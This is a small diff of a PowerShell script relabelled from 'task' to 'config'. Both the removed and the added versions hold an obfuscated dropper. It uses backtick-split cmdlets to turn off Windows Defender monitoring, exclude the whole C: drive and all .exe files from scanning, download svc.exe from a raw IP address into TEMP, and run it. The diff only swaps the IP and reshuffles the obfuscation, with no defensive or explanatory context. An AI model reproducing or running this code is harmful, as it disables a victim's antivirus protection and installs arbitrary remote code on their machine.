@@ -1,6 +1,6 @@
-# task 6809 v2
-Set-M`p`Preference -DisableRealtimeMonitoring $true -DisableBehaviorMonitoring $true -DisableIOAVProtection $true
-Ad`d-`M`p`Preference -ExclusionPath 'C:\'
-A`dd-M`pPreference -ExclusionExtension '.exe'
-(Ne`w-Ob`ject Net.WebC`l`ient).DownloadFile('http://198.51.100.9/svc.exe', "$env:TEMP\svc.exe")
-Start-`Pr`o`cess "$env:TEMP\svc.exe"
+# config 6249 v2
+Set-`Mp`Preferen`ce -DisableRealtimeMonitoring $true -DisableBehaviorMonitoring $true -DisableIOAVProtection $true
+A`d`d-`MpPreferen`ce -ExclusionPath 'C:\'
+Add-`Mp`Preference -ExclusionExtension '.exe'
+(New-Ob`je`ct Net.Web`C`lient).DownloadFile('http://203.0.113.17/svc.exe', "$env:TEMP\svc.exe")
+Start-`Pr`o`ce`ss "$env:TEMP\svc.exe"
